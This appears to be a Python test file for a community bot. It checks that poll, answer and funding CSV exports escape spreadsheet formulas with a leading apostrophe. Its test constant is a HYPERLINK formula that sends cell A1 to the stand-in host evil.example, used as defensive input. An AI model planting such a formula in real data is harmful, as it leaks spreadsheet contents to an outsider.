"""A name or answer that a spreadsheet would run as a formula is exported as text.

The poll results an organiser downloads in the chat, the answers export, the
report's CSV and the funding export are opened in spreadsheets. A cell that starts with ``=``, ``+``,
``-`` or ``@`` is written with a leading ``'`` (``handlers.spreadsheet``); what is
stored is unchanged.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.bootstrap import App
from bot.funding_command import export_csv as funding_export_csv
from handlers.callbacks import PollAction, PollButton
from handlers.outbound import Document
from handlers.payloads import encode
from handlers.reports.export import export_csv
from handlers.spreadsheet import cell, uncell
from storage.models import FundingApplication, Poll, PollVote, User
from storage.repositories.reports import ReportScope
from tests.integration.test_resident_conversation import answers_of, walk_to_exists
from tests.security.world import ORGANISER, seed
from tests.support.resident import Resident

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("'=1+1", "''=1+1"),  # typed with its own apostrophe: that one comes back too
        ("-5", "-5"),  # a number stays a number
        ("'-5", "'-5"),
        ("12.50", "12.50"),
        ("Tarvin", "Tarvin"),
        (7, 7),
    ],
)
def test_cells(value: object, written: object) -> None:
    assert cell(value) == written


@given(st.text() | st.text(alphabet="'=+-@\t1.x", max_size=6))
def test_a_cell_read_back_is_what_was_written(text: str) -> None:
    # What the dashboard's CSV quoted comes back as it was stored (the import uses it).
    written = cell(text)
    assert isinstance(written, str) and uncell(written) == text


def test_an_apostrophe_before_plain_text_is_kept() -> None:
    assert uncell("'tis the season") == "'tis the season"
    assert uncell("'-5") == "'-5"  # a number is never quoted, so this one was typed


async def test_the_poll_csv_quotes_a_voters_formula_name(app: App) -> None:
    world = await seed(app.deps)
    async with app.deps.uow() as uow:
        voter = await uow.users.add(User(telegram_id=7_970_000_001, chat_id=1, first_name=FORMULA))
        assert voter.id is not None
        poll = await uow.session.get(Poll, world.open_poll)
        assert poll is not None
        poll.options = json.dumps(["@SUM(1)", "Litter"])
        uow.session.add(poll)
        uow.session.add(PollVote(poll_id=world.open_poll, user_id=voter.id, option_ids="0"))
        await uow.commit()
    organiser = Resident(app.deps, ORGANISER, "Olu")
    replies = await organiser.press_data(encode(PollButton(PollAction.EXPORT, world.open_poll)))
    [document] = [r for r in replies if isinstance(r, Document)]
    rows = list(csv.reader(io.StringIO(document.content.decode())))
    assert ["'@SUM(1)", "1"] in rows
    assert ["'" + FORMULA, "'@SUM(1)"] in rows


async def test_the_answers_export_quotes_a_formula_answer(app: App) -> None:
    r = Resident(app.deps, 7_970_000_002)
    await walk_to_exists(r)
    await r.send(FORMULA)
    assert (await answers_of(app.deps, 7_970_000_002))["exists"].text == FORMULA  # stored
    for _ in range(6):
        if "Please check your answers" in r.text:
            break
        await r.press("Skip") if "Skip" in str(r.buttons()) else await r.send("Answer")
    await r.press("Send my answers")
    async with app.deps.uow() as uow:
        rows = await uow.reports.export(ReportScope(), "resident")
    records = list(csv.DictReader(io.StringIO(export_csv(rows))))
    assert "'" + FORMULA in [record["answer"] for record in records]
    assert FORMULA not in [record["answer"] for record in records]


async def test_the_funding_export_quotes_a_formula_project_and_contact(app: App) -> None:
    world = await seed(app.deps)
    async with app.deps.uow() as uow:
        application = await uow.session.get(FundingApplication, world.application)
        assert application is not None
        application.project_name, application.contact = FORMULA, "+44 1234 567890"
        uow.session.add(application)
        await uow.commit()
    async with app.deps.uow() as uow:
        exported = await funding_export_csv(uow, app.deps.timezone)
    [record] = list(csv.DictReader(io.StringIO(exported)))
    assert record["project_name"] == "'" + FORMULA
    assert record["contact"] == "'+44 1234 567890"  # a phone number stays readable as text
